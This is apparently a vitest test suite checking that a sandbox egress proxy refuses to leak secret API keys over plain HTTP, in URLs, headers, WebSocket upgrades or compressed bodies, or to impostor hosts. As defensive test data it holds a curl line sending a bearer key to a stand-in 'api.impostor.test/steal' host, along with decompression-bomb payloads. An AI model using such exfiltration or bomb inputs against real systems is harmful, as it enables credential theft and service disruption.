import { randomBytes } from "node:crypto";
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { ok } from "../../helpers/bash.js";
import { parseResponse, tlsRequest } from "../../helpers/raw-http.js";
import type { SeenRequest } from "../../helpers/upstreams.js";
import { describeAccountingAndLeaks, OPENAI, TEST_CA, expectNoValue, useSecretsSandbox } from "../../helpers/secrets.js";

/**
 * Secrets refused: a placeholder anywhere the proxy does not put the value in (plain HTTP, the
 * URL, a header name, a body without body: true, another secret's host, a WebSocket upgrade, a
 * compressed body) is answered 403 and never reaches an upstream; an intercepted tunnel serves
 * only its own host; bodies it cannot read to the end and upstreams it cannot verify are refused.
 * The setting (upstreams, the daemon, a sandbox holding the secrets) is in helpers/secrets.ts.
 */

const s = useSecretsSandbox();
const { sb, up, P, counts, run, seenAt, seenUnder, decisions, expectSecretRefusal, raw } = s;

describe("where a placeholder is not substituted", () => {
  it("to another allowed host (an opaque tunnel, verified with the test CA): it passes unchanged, and nothing is refused", async () => {
    const log = await decisions(async () => {
      const out = ok(await run(`curl -sS --fail --cacert ${TEST_CA} -H "Authorization: Bearer $OPENAI_KEY" https://other.example.test/echo/opaque`), "curl");
      expect(JSON.parse(out)).toMatchObject({ path: "/echo/opaque", servername: "other.example.test", headers: { authorization: `Bearer ${P.OPENAI_KEY}` } });
      // not intercepted: the daemon's CA does not sign for it, so the default trust fails
      const r = await run(`curl -sS -o /dev/null https://other.example.test/echo/opaque-untrusted`);
      expect(r.code).toBe(60);
    });
    expect(log).toEqual(["allowed CONNECT other.example.test:443", "allowed CONNECT other.example.test:443"]);
    expect(seenAt("/echo/opaque").map((s) => s.headers.authorization)).toEqual([`Bearer ${P.OPENAI_KEY}`]);
  });

  it("over plain HTTP, to any host (header, Basic, its own host, body): 403 naming secret and host, and the upstream never gets it", async () => {
    const before = (await sb.usage()).egress.blocked;
    const curl = (args: string) => `curl -sS -D - ${args}; echo '-----'`;
    const out = ok(
      await run(
        [
          curl(`-H "Authorization: Bearer $OPENAI_KEY" http://api.example.test/echo/plain-header`),
          curl(`-u "user:$OPENAI_KEY" http://api.example.test/echo/plain-basic`),
          curl(`-H "x-api-key: $ANTHROPIC_KEY" http://api.anthropic.com/echo/plain-own-host`),
          curl(`--data-binary "token=$ANTHROPIC_KEY" http://api.example.test/echo/plain-body`),
        ].join("\n"),
      ),
      "curl",
    );
    const [header, basic, own, body] = out.split("-----\n").map((r) => parseResponse(r));
    const plain = /was sent over plain HTTP to .*; secrets go only over HTTPS to their own hosts/;
    expectSecretRefusal(header!, "OPENAI_KEY", "api.example.test:80", plain);
    expectSecretRefusal(basic!, "OPENAI_KEY", "api.example.test:80", plain);
    expectSecretRefusal(own!, "ANTHROPIC_KEY", "api.anthropic.com:80", plain);
    expectSecretRefusal(body!, "ANTHROPIC_KEY", "api.example.test:80", plain);
    expect(seenUnder("/echo/plain-")).toEqual([]);
    expect((await sb.usage()).egress.blocked - before).toBe(4);
  });

  it("in the URL (query string, path, percent-encoded path): 403, and the upstream never gets it", async () => {
    const pct = [...P.OPENAI_KEY].map((c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`).join("");
    const res = await raw([
      tlsRequest("api.openai.com", "GET", `/echo/url-query?key=${P.OPENAI_KEY}`),
      tlsRequest("api.openai.com", "GET", `/echo/url-path/${P.OPENAI_KEY}`),
      tlsRequest("api.openai.com", "GET", `/echo/url-pct/%53${P.OPENAI_KEY.slice(1)}`),
      tlsRequest("api.openai.com", "GET", `/echo/url-pct-all/${pct}`),
      tlsRequest("api.openai.com", "GET", `/echo/url-pct-query?key=${encodeURIComponent(P.OPENAI_KEY).replace(/_/g, "%5F")}`),
    ]);
    for (const r of res) expectSecretRefusal(r, "OPENAI_KEY", "api.openai.com:443", /is in the URL of a request to/);
    expect(seenUnder("/echo/url-")).toEqual([]);
  });

  it("in the URL behind a malformed percent-escape: still 403", async () => {
    // decodeURIComponent throws on "%ZZ", and the URL is then only checked as written
    const [res] = await raw([tlsRequest("api.openai.com", "GET", `/echo/url-malformed/%ZZ/%53${P.OPENAI_KEY.slice(1)}`)]);
    expect(seenUnder("/echo/url-malformed")).toEqual([]);
    expectSecretRefusal(res!, "OPENAI_KEY", "api.openai.com:443", /is in the URL of a request to/);
  });

  it("in a header name: 403", async () => {
    const [res] = await raw([tlsRequest("api.openai.com", "GET", "/echo/header-name", [`X-${P.OPENAI_KEY}: 1`])]);
    expectSecretRefusal(res!, "OPENAI_KEY", "api.openai.com:443", /is in a header name/);
    expect(seenAt("/echo/header-name")).toEqual([]);
  });

  it("in the body of a secret without body: true: 403, and the upstream never gets a complete body (even when most of it already went)", async () => {
    const res = await raw([
      tlsRequest("api.openai.com", "POST", "/echo/body-not-allowed", ["Content-Type: application/json"], `{"key":"${P.OPENAI_KEY}"}`),
      // 200 kB stream on to the upstream before the placeholder shows up
      tlsRequest("api.openai.com", "POST", "/echo/body-not-allowed-late", ["Content-Type: text/plain"], `${"x".repeat(200_000)}${P.OPENAI_KEY}tail`),
    ]);
    for (const r of res) expectSecretRefusal(r, "OPENAI_KEY", "api.openai.com:443", /it is substituted in bodies only when created with body: true/);
    for (const path of ["/echo/body-not-allowed", "/echo/body-not-allowed-late"]) {
      expect(seenAt(path).filter((s) => s.complete)).toEqual([]);
      expect(seenAt(path).every((s) => !s.body.includes(OPENAI) && !s.body.includes("SBX_SECRET_"))).toBe(true);
    }
  });

  it("under a second secret's host (header, or body where that host takes bodies): 403 naming the secret and where it is bound", async () => {
    const res = await raw([
      tlsRequest("api.anthropic.com", "GET", "/echo/cross-header", [`Authorization: Bearer ${P.OPENAI_KEY}`]),
      tlsRequest("api.anthropic.com", "POST", "/echo/cross-body", [`x-api-key: ${P.ANTHROPIC_KEY}`], `{"other":"${P.OPENAI_KEY}"}`),
      tlsRequest("api.openai.com", "POST", "/echo/cross-body-2", [`Authorization: Bearer ${P.OPENAI_KEY}`], `{"other":"${P.ANTHROPIC_KEY}"}`),
    ]);
    expectSecretRefusal(res[0]!, "OPENAI_KEY", "api.anthropic.com:443", /is not for api\.anthropic\.com:443; it is bound to api\.openai\.com$/);
    expectSecretRefusal(res[1]!, "OPENAI_KEY", "api.anthropic.com:443", /is not for api\.anthropic\.com:443; it is bound to api\.openai\.com$/);
    expectSecretRefusal(res[2]!, "ANTHROPIC_KEY", "api.openai.com:443", /is not for api\.openai\.com:443; it is bound to api\.anthropic\.com$/);
    expect(seenAt("/echo/cross-header")).toEqual([]);
    for (const path of ["/echo/cross-body", "/echo/cross-body-2"]) expect(seenAt(path).filter((s) => s.complete)).toEqual([]);
  });

  it("in a WebSocket upgrade (intercepted: Authorization or subprotocol; plain HTTP): 403, and the upstream never gets it", async () => {
    const ws = ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13"];
    const wsHead = (host: string, path: string, extra: string) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${[...ws, extra].map((h) => `${h}\r\n`).join("")}\r\n`;
    const res = await raw([
      { tls: "api.openai.com", parts: [wsHead("api.openai.com", "/ws/auth", `Authorization: Bearer ${P.OPENAI_KEY}`)] },
      { tls: "api.openai.com", parts: [wsHead("api.openai.com", "/ws/protocol", `Sec-WebSocket-Protocol: chat, ${P.OPENAI_KEY}`)] },
      { parts: [wsHead("api.example.test", "http://api.example.test/ws/plain", `Authorization: Bearer ${P.OPENAI_KEY}`)] },
      { tls: "api.openai.com", parts: [wsHead("api.openai.com", `/ws/url?k=${P.OPENAI_KEY.replaceAll("_", "%5F")}`, "X-None: 1")] },
      { tls: "api.openai.com", parts: [wsHead("api.openai.com", "/ws/basic", `Authorization: Basic ${Buffer.from(`u:${P.OPENAI_KEY}`).toString("base64")}`)] },
    ]);
    expectSecretRefusal(res[0]!, "OPENAI_KEY", "api.openai.com:443", /is in a WebSocket upgrade/);
    expectSecretRefusal(res[1]!, "OPENAI_KEY", "api.openai.com:443", /is in a WebSocket upgrade/);
    expectSecretRefusal(res[2]!, "OPENAI_KEY", "api.example.test:80", /over plain HTTP/);
    expectSecretRefusal(res[3]!, "OPENAI_KEY", "api.openai.com:443", /is in a WebSocket upgrade/);
    expectSecretRefusal(res[4]!, "OPENAI_KEY", "api.openai.com:443", /is in a WebSocket upgrade/);
    expect(seenUnder("/ws/")).toEqual([]);
  });

  it("in a gzip'd request body: 403 even where body: true; a gzip'd body without one passes as it is", async () => {
    const carrying = gzipSync(`{"key":"${P.ANTHROPIC_KEY}"}`);
    const clean = gzipSync(`{"key":"nothing secret"}`);
    const res = await raw([
      tlsRequest("api.anthropic.com", "POST", "/echo/gzip-body", ["Content-Type: application/json", "Content-Encoding: gzip"], carrying),
      tlsRequest("api.anthropic.com", "POST", "/echo/gzip-clean", ["Content-Type: application/json", "Content-Encoding: gzip"], clean),
    ]);
    expectSecretRefusal(res[0]!, "ANTHROPIC_KEY", "api.anthropic.com:443", /is in a compressed request body/);
    expect(seenAt("/echo/gzip-body").filter((s) => s.complete)).toEqual([]);
    expect(res[1]!.status, res[1]!.raw).toBe(200);
    const [seen] = seenAt("/echo/gzip-clean");
    expect(seen).toMatchObject({ complete: true, headers: { "content-encoding": "gzip" } });
    expect(Buffer.from(seen!.body, "latin1").equals(clean)).toBe(true);
  });

  it("Node fetch of an http:// URL (which the preload tunnels with CONNECT) carrying a placeholder is refused like any plain HTTP", async () => {
    await sb.fs.writeTextFile(
      "fetch_plain.mjs",
      `const r = await fetch("http://api.example.test/echo/fetch-plain", { headers: { authorization: "Bearer " + process.env.OPENAI_KEY } });\nconsole.log(r.status, r.headers.get("x-sbx-error"));\n`,
    );
    const out = ok(await run("node fetch_plain.mjs"), "node");
    // The proxy reads the plaintext inside the tunnel, so fetch gets the refusal itself.
    expect(out).toBe("403 secret OPENAI_KEY was sent over plain HTTP to api.example.test:80; secrets go only over HTTPS to their own hosts\n");
    expect(seenAt("/echo/fetch-plain")).toEqual([]);
    counts.refusalsSeen++;
  });
});

describe("requests on an intercepted tunnel go only to its own host", () => {
  it("another Host, no Host, an absolute target for another host, or a CONNECT inside: 400, and nothing reaches an upstream", async () => {
    const [otherHost, noHost, absolute, connect] = await raw([
      { tls: "api.openai.com", parts: [`GET /echo/vhost-other HTTP/1.1\r\nHost: other.example.test\r\nAuthorization: Bearer ${P.OPENAI_KEY}\r\nConnection: close\r\n\r\n`] },
      { tls: "api.openai.com", parts: [`GET /echo/vhost-none HTTP/1.0\r\nAuthorization: Bearer ${P.OPENAI_KEY}\r\n\r\n`] },
      tlsRequest("api.openai.com", "GET", "https://other.example.test/echo/vhost-absolute", [`Authorization: Bearer ${P.OPENAI_KEY}`]),
      tlsRequest("api.openai.com", "CONNECT", "other.example.test:443"),
    ]);
    for (const r of [otherHost, noHost, absolute, connect]) expect(r!.status, r!.raw).toBe(400);
    expect(otherHost!.headers["x-sbx-error"]).toMatch(/Host header .* disagrees with the tunnel to api\.openai\.com:443/);
    expect(absolute!.headers["x-sbx-error"]).toMatch(/is not for the tunnel to api\.openai\.com:443/);
    expect(connect!.headers["x-sbx-error"]).toBe("CONNECT inside an intercepted tunnel is not allowed");
    expect(up.seen.filter((r) => r.path.startsWith("/echo/vhost-"))).toEqual([]);
  });

  it("a TLS server name that disagrees with the CONNECT to a secret's host ends the handshake, and is logged", async () => {
    const r = await run(`curl -sS --connect-to other.example.test:443:api.openai.com:443 -H "Authorization: Bearer $OPENAI_KEY" https://other.example.test/echo/sni-mismatch`);
    expect(r.code).not.toBe(0);
    expect(seenAt("/echo/sni-mismatch")).toEqual([]);
    const last = (await sb.egressLog()).at(-1)!;
    expect(last).toMatchObject({ host: "api.openai.com", port: 443, method: "TLS", allowed: false });
    expect(last.reason).toContain("the TLS server name 'other.example.test' disagrees with the CONNECT target api.openai.com:443");
  });
});

describe("a second Host header", () => {
  it("never reaches the upstream beside a substituted secret (intercepted), nor on plain HTTP: only the checked one goes", async () => {
    const [tls, plain] = await raw([
      tlsRequest("api.openai.com", "GET", "/echo/two-hosts", ["Host: other.example.test", `Authorization: Bearer ${P.OPENAI_KEY}`]),
      { parts: ["GET http://api.example.test/echo/two-hosts-plain HTTP/1.1\r\nHost: api.example.test\r\nHost: other.example.test\r\nConnection: close\r\n\r\n"] },
    ]);
    expect(tls!.status, tls!.raw).toBe(200);
    expect(plain!.status, plain!.raw).toBe(200);
    const hosts = (r: SeenRequest) => r.rawHeaders.flatMap((name, i) => (i % 2 === 0 && name.toLowerCase() === "host" ? [r.rawHeaders[i + 1]!] : []));
    const [seenTls] = seenAt("/echo/two-hosts");
    expect(hosts(seenTls!)).toEqual(["api.openai.com"]);
    expect(seenTls!.headers.authorization).toBe(`Bearer ${OPENAI}`);
    expect(hosts(seenAt("/echo/two-hosts-plain")[0]!)).toEqual(["api.example.test"]);
  });
});

describe("compressed request bodies the proxy cannot read to the end", () => {
  it("a coding it does not know (415), too many codings (415), one that does not decode (400), a bomb past 64 MiB decoded (413), over 16 MiB (413): never forwarded", async () => {
    const post = (path: string, coding: string, body: Buffer) => tlsRequest("api.openai.com", "POST", path, [`Content-Encoding: ${coding}`], body);
    // Resilience item 1: hundreds of stacked layers (each a stored gzip, the innermost compressed) once froze the daemon.
    let stacked = gzipSync(Buffer.alloc(1 << 20));
    for (let i = 0; i < 600; i++) stacked = gzipSync(stacked, { level: 0 });
    const [unknown, many, corrupt, bomb, big] = await raw([
      post("/echo/cbody-zstd", "zstd", Buffer.from("whatever")),
      post("/echo/cbody-stacked", Array(601).fill("gzip").join(", "), stacked),
      post("/echo/cbody-corrupt", "gzip", Buffer.from("not gzip at all")),
      post("/echo/cbody-bomb", "gzip", gzipSync(Buffer.alloc(80 << 20))),
      // Valid gzip of incompressible bytes, so the decoder keeps going until the 16 MiB it may hold are full.
      post("/echo/cbody-big", "gzip", gzipSync(randomBytes(17 << 20), { level: 1 })),
    ]);
    expect(unknown!.status, unknown!.raw).toBe(415);
    expect(unknown!.headers["x-sbx-error"]).toBe("a request body in content-encoding 'zstd' cannot be inspected for secrets, so it is refused");
    expect(many!.status, many!.raw).toBe(415);
    expect(many!.headers["x-sbx-error"]).toBe("a request body to api.openai.com:443 has 601 content codings; the proxy reads at most 4 to look for secrets");
    expect(corrupt!.status).toBe(400);
    expect(corrupt!.headers["x-sbx-error"]).toMatch(/^a request body in content-encoding 'gzip' to api\.openai\.com:443 cannot be decoded to look for secrets/);
    expect(bomb!.status).toBe(413);
    expect(bomb!.headers["x-sbx-error"]).toBe("a compressed request body to api.openai.com:443 decodes to over 64 MiB; the proxy refuses it rather than look through all of it");
    expect(big!.status).toBe(413);
    expect(big!.headers["x-sbx-error"]).toBe("a compressed request body to api.openai.com:443 is over 16 MiB; the proxy reads such bodies whole to look for secrets");
    expect(up.seen.filter((r) => r.path.startsWith("/echo/cbody-"))).toEqual([]);
  });
});

describe("the upstream of a secret's host is verified before anything is sent", () => {
  it("a certificate from an untrusted CA, or one that does not name the host: 502 naming the problem, and no request reaches it", async () => {
    const out = ok(
      await run(
        [
          `curl -sS -D - -o /dev/null -H "Authorization: Bearer $IMPOSTOR_KEY" https://api.impostor.test/steal`,
          `curl -sS -D - -o /dev/null -H "Authorization: Bearer $UNLISTED_KEY" https://unlisted.example.test/echo/unlisted`,
        ].join("; "),
      ),
      "curl",
    );
    const errors = out.split("\n").filter((l) => l.toLowerCase().startsWith("x-sbx-error:"));
    expect(out.match(/^HTTP\/1\.1 502 /gm)).toHaveLength(2);
    expect(errors[0]).toMatch(/cannot reach api\.impostor\.test:443: self[- ]signed certificate/i);
    expect(errors[1]).toMatch(/cannot reach unlisted\.example\.test:443: .*Host: unlisted\.example\.test\. is not in the cert's altnames/);
    expect(counts.impostorRequests).toBe(0);
    expect(seenAt("/echo/unlisted")).toEqual([]);
    expectNoValue(out, "the 502s");
  });
});

describeAccountingAndLeaks(s,
  {
    refusals(bySecret, warned) {
      expect(new Set(bySecret.map((e) => e.secret))).toEqual(new Set(["OPENAI_KEY", "ANTHROPIC_KEY"]));
      expect(bySecret.find((e) => e.host === "api.example.test" && e.port === 80 && e.secret === "OPENAI_KEY")).toBeDefined();
      expect(bySecret.find((e) => e.host === "api.anthropic.com" && e.port === 443 && e.secret === "OPENAI_KEY")).toBeDefined();
      expect(warned.some((l) => l.includes("carrying secret OPENAI_KEY: secret OPENAI_KEY is in the URL of a request to api.openai.com:443"))).toBe(true);
      expect(warned.some((l) => l.includes("carrying secret ANTHROPIC_KEY: "))).toBe(true);
    },
    outputAfterStop: /egress refused a request carrying secret OPENAI_KEY/,
  });
